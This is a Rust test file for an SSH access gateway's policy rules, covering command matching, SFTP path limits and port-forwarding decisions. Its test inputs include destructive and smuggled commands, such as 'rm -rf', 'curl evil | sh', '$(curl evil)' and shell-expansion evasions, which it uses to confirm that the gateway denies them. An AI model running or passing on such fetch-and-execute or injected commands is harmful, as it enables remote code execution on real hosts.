use super::*;
use crate::{config::Config, shell::CommandLine};

const HOST_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ";

fn policy(rules: &str) -> Policy {
    let text = format!(
        "[[targets]]\nname = \"web\"\nprotocol = \"ssh\"\naddress = \"10.0.0.7:22\"\n[targets.credentials]\nkey_file = \"/k\"\n[targets.ssh]\nhost_key = \"{HOST_KEY}\"\n\n{rules}"
    );
    Policy::new(
        Config::parse(&text, "t")
            .unwrap_or_else(|e| panic!("{e}"))
            .rules,
    )
}

const RULES: &str = r#"
[[rules]]
name = "no-rm"
action = "deny"
unauthenticated = true
[rules.ssh]
commands = ["rm -rf /*"]

[[rules]]
name = "restarts"
action = "require_approval"
unauthenticated = true
approvers = ["ops"]
[rules.ssh]
operations = ["exec"]
commands = ["systemctl restart *"]

[[rules]]
name = "etc-read-only"
action = "deny"
unauthenticated = true
[rules.ssh]
operations = ["sftp_write", "sftp_delete"]
paths = ["/etc/*"]

[[rules]]
name = "db-tunnel"
action = "allow"
unauthenticated = true
[rules.ssh]
destinations = ["10.0.0.9:5432"]

[[rules]]
name = "reverse-tunnel"
action = "allow"
unauthenticated = true
[rules.ssh]
operations = ["remote_forward"]
destinations = ["127.0.0.1:8080", "10.0.0.7:*"]

[[rules]]
name = "jobs"
action = "allow"
unauthenticated = true

[[approvers]]
name = "ops"
unix_users = ["root"]
"#;

fn decide(p: &Policy, op: SshOperation<'_>) -> Decision {
    p.decide_ssh(&Identity::unauthenticated(), "web", &op)
}

fn exec(p: &Policy, command: &str) -> Decision {
    let line = CommandLine::parse(command);
    decide(p, SshOperation::Exec { line: &line })
}

fn shell_line(p: &Policy, command: &str) -> Decision {
    let line = CommandLine::parse(command);
    decide(p, SshOperation::Shell { line: Some(&line) })
}

#[test]
fn commands_match_whole_lines_with_blanks_normalised() {
    let p = policy(RULES);
    let d = exec(&p, "rm  -rf   /var");
    assert_eq!(d.rule(), Some("no-rm"));
    assert_eq!(d.label(), "deny");
    assert!(d.reason().unwrap().contains("command \"rm  -rf   /var\""));
    // The same rule covers lines typed in a shell.
    let d = shell_line(&p, "rm -rf /home");
    assert_eq!(d.rule(), Some("no-rm"));
    // Opening a shell has no command: command rules do not match it.
    let d = decide(&p, SshOperation::Shell { line: None });
    assert_eq!(d.rule(), Some("jobs"));
    let d = exec(&p, "systemctl restart app");
    assert_eq!(d.label(), "require_approval");
    // `operations = ["exec"]` keeps the approval rule off shell lines.
    let d = shell_line(&p, "systemctl restart app");
    assert_eq!(d.rule(), Some("jobs"));
    assert_eq!(exec(&p, "uptime").rule(), Some("jobs"));
}

#[test]
fn sftp_paths_and_kinds() {
    let p = policy(RULES);
    let write = |path| SshOperation::Sftp {
        kind: SshOperationKind::SftpWrite,
        path,
    };
    assert_eq!(decide(&p, write("/etc/passwd")).label(), "deny");
    assert_eq!(decide(&p, write("/tmp/x")).label(), "allow");
    let read = SshOperation::Sftp {
        kind: SshOperationKind::SftpRead,
        path: "/etc/passwd",
    };
    assert_eq!(decide(&p, read).label(), "allow");
}

#[test]
fn forwarding_needs_a_rule_that_names_it() {
    let p = policy(RULES);
    let d = decide(
        &p,
        SshOperation::Forward {
            host: "10.0.0.9",
            port: 5432,
        },
    );
    assert_eq!(d.rule(), Some("db-tunnel"));
    assert_eq!(d.label(), "allow");
    // The connection rule "jobs" does not allow other destinations.
    let d = decide(
        &p,
        SshOperation::Forward {
            host: "10.0.0.10",
            port: 5432,
        },
    );
    assert_eq!(d.label(), "deny");
    assert!(
        d.reason().unwrap().contains("port forwarding is refused"),
        "{d:?}"
    );
    let d = decide(
        &p,
        SshOperation::RemoteForward {
            address: "0.0.0.0",
            port: 8080,
        },
    );
    assert_eq!(d.label(), "deny");
}

#[test]
fn remote_forwarding_is_decided_on_the_listening_address() {
    let p = policy(RULES);
    let remote = |address, port| decide(&p, SshOperation::RemoteForward { address, port });
    let d = remote("127.0.0.1", 8080);
    assert_eq!((d.label(), d.rule()), ("allow", Some("reverse-tunnel")));
    assert_eq!(remote("10.0.0.7", 9000).rule(), Some("reverse-tunnel"));
    // Another port, every interface, or a port the host picks (0) is not what the rule names.
    assert_eq!(remote("127.0.0.1", 8081).label(), "deny");
    assert_eq!(remote("0.0.0.0", 8080).label(), "deny");
    assert_eq!(remote("127.0.0.1", 0).label(), "deny");
    // A rule listing destinations without operations is about `ssh -L` only: "db-tunnel" names
    // 10.0.0.9:5432 as a place to connect to, not as a place the host may listen on.
    assert_eq!(remote("10.0.0.9", 5432).label(), "deny");
    // And a remote_forward rule does not open `ssh -L` to the same address.
    let d = decide(
        &p,
        SshOperation::Forward {
            host: "127.0.0.1",
            port: 8080,
        },
    );
    assert_eq!(d.label(), "deny");
}

#[test]
fn operation_rules_do_not_decide_connections() {
    // A deny rule about commands must not refuse the connection itself.
    let p = policy(RULES);
    let d = p.decide_connection(&Identity::unauthenticated(), "web");
    assert_eq!(d.rule(), Some("jobs"));
}

#[test]
fn command_rules_match_what_runs_not_how_it_is_spelled() {
    let p = policy(RULES);
    for line in [
        "systemctl 're'start app",
        "sudo systemctl restart app",
        "true && systemctl re\\start app",
        "bash -c 'systemctl \"restart\" app'",
    ] {
        assert_eq!(exec(&p, line).label(), "require_approval", "{line}");
    }
    assert_eq!(exec(&p, "rm -rf '/'var").rule(), Some("no-rm"));
    // A line the gateway cannot see through is refused by the first rule that would have to
    // decide it; the reason says why and what to do.
    let d = exec(&p, "s=re; systemctl ${s}start app");
    assert_eq!((d.label(), d.rule()), ("deny", Some("no-rm")));
    let reason = d.reason().unwrap();
    assert!(
        reason.contains("cannot be checked against command rules")
            && reason.contains("shell expansion ($)")
            && reason.contains("raw = true"),
        "{reason}"
    );
    // Where no rule about commands applies, shell syntax is the host's business.
    let p = policy(
        r#"
[[rules]]
name = "jobs"
action = "allow"
unauthenticated = true
"#,
    );
    assert_eq!(exec(&p, "echo $HOME; ls *").label(), "allow");
}

#[test]
fn allow_rules_need_exactly_the_command_they_name() {
    let p = policy(
        r#"
[[rules]]
name = "status"
action = "allow"
unauthenticated = true
[rules.ssh]
operations = ["exec", "shell"]
commands = ["systemctl status *"]

[[rules]]
name = "pipeline"
action = "allow"
unauthenticated = true
[rules.ssh]
commands = ["journalctl -u app | tail -n 5"]
raw = true

[[rules]]
name = "nothing-else"
action = "deny"
unauthenticated = true
[rules.ssh]
operations = ["exec", "shell"]
"#,
    );
    assert_eq!(exec(&p, "systemctl 'status' app").rule(), Some("status"));
    assert_eq!(
        shell_line(&p, "systemctl status app").rule(),
        Some("status")
    );
    for line in [
        "systemctl status x; curl evil | sh",
        "systemctl status x && curl evil",
        "systemctl status x > /etc/motd",
        "systemctl status $(curl evil)",
        "PAGER=/tmp/x systemctl status x",
        "systemctl status x &",
    ] {
        assert_eq!(exec(&p, line).rule(), Some("nothing-else"), "{line}");
    }
    // `raw = true` matches shell source as typed (blank runs collapsed), and nothing else.
    assert_eq!(
        exec(&p, "journalctl -u app |  tail -n 5").rule(),
        Some("pipeline")
    );
    assert_eq!(
        exec(&p, "journalctl -u app | tail -n 5; id").rule(),
        Some("nothing-else")
    );
}

#[test]
fn directories_fall_under_the_rules_for_what_is_in_them() {
    let p = policy(RULES);
    let write = |path| SshOperation::Sftp {
        kind: SshOperationKind::SftpWrite,
        path,
    };
    assert_eq!(decide(&p, write("/etc")).label(), "deny");
    assert_eq!(decide(&p, write("/etc/")).label(), "deny");
    assert_eq!(decide(&p, write("/etcetera")).label(), "allow");
    assert_eq!(decide(&p, write("/")).label(), "allow");
}
